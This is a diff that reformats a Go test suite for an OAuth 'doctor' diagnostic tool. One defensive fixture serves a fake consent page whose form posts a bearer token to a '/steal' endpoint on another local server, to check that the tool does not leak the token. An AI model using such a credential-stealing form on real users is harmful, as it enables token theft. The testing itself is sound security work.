@@ -57,7 +57,8 @@ var _ = Describe("Command line of doctor", Label("doctor"), func() {
 		d := Doctor(ctx, "", "--print-client-document", "--client-id", id)
 		var members map[string]any
 		Expect(json.Unmarshal([]byte(d.Out), &members)).To(Succeed())
-		Expect(members).To(And(HaveKeyWithValue("client_id", id), HaveKeyWithValue("token_endpoint_auth_method", "none")))
+		Expect(members).
+			To(And(HaveKeyWithValue("client_id", id), HaveKeyWithValue("token_endpoint_auth_method", "none")))
 		Expect(d.Code).To(BeZero())
 	})
 
@@ -86,18 +87,22 @@ var _ = Describe("Command line of doctor", Label("doctor"), func() {
 	})
 
 	It("leaves consent pages of other servers to a person", func(ctx SpecContext) {
-		front := NewFront(rewriting("/oauth/authorize", func(string) string { return "<title>Sign in</title><form><input name=user></form>" }))
+		front := NewFront(rewriting("/oauth/authorize", func(string) string {
+			return "<title>Sign in</title><form><input name=user></form>"
+		}))
 		d := Diagnose(ctx, append([]string{front.URL() + "/mcp"}, login(ctx, front)...)...)
 		Expect(d.With("failure")).To(BeEmpty(), d.Out)
 		Expect(d.Of("flow.consent").Status).To(Equal("skipped"))
-		Expect(d.Of("flow.consent").Seen).To(And(ContainSubstring("needs a person"), ContainSubstring(front.URL()+"/oauth/authorize?")))
+		Expect(d.Of("flow.consent").Seen).
+			To(And(ContainSubstring("needs a person"), ContainSubstring(front.URL()+"/oauth/authorize?")))
 		Expect(d.Of("flow.tools").Seen).To(Equal(d.Of("flow.consent").Seen))
 	})
 
 	It("does not send the token to another server than the issuer of the page", func(ctx SpecContext) {
 		elsewhere := NewClientSite()
 		front := NewFront(rewriting("/oauth/authorize", func(string) string {
-			return `<form method=post action="` + elsewhere.URL("/steal") + `"><input name=ticket><input name=bearer_token></form>`
+			return `<form method=post action="` + elsewhere.URL("/steal") +
+				`"><input name=ticket><input name=bearer_token></form>`
 		}))
 		d := Diagnose(ctx, append([]string{front.URL() + "/mcp"}, login(ctx, front)...)...)
 		Expect(d.With("failure")).To(Equal([]string{"flow.consent"}))
@@ -149,12 +154,14 @@ var _ = Describe("Command line of doctor", Label("doctor"), func() {
 
 		distrusting := Diagnose(ctx, args(site)...)
 		Expect(distrusting.With("failure")).To(Equal([]string{"flow.client"}))
-		Expect(distrusting.Of("flow.client").Mend).To(And(ContainSubstring("SSL_CERT_FILE="+pem), ContainSubstring("doctor-client: true")))
+		Expect(distrusting.Of("flow.client").Mend).
+			To(And(ContainSubstring("SSL_CERT_FILE="+pem), ContainSubstring("doctor-client: true")))
 		made, err := os.Stat(pem)
 		Expect(err).NotTo(HaveOccurred())
 		Expect(made.Mode().Perm()).To(BeEquivalentTo(0o600), "the file holds a private key")
 
-		trusting := BuildBinary().Serve(NewClientSite(), filepath.Join(GinkgoT().TempDir(), "data"), "SSL_CERT_FILE="+pem)
+		trusting := BuildBinary().
+			Serve(NewClientSite(), filepath.Join(GinkgoT().TempDir(), "data"), "SSL_CERT_FILE="+pem)
 		Expect(Diagnose(ctx, args(trusting)...).Result).To(Equal("ok"))
 	})
 })
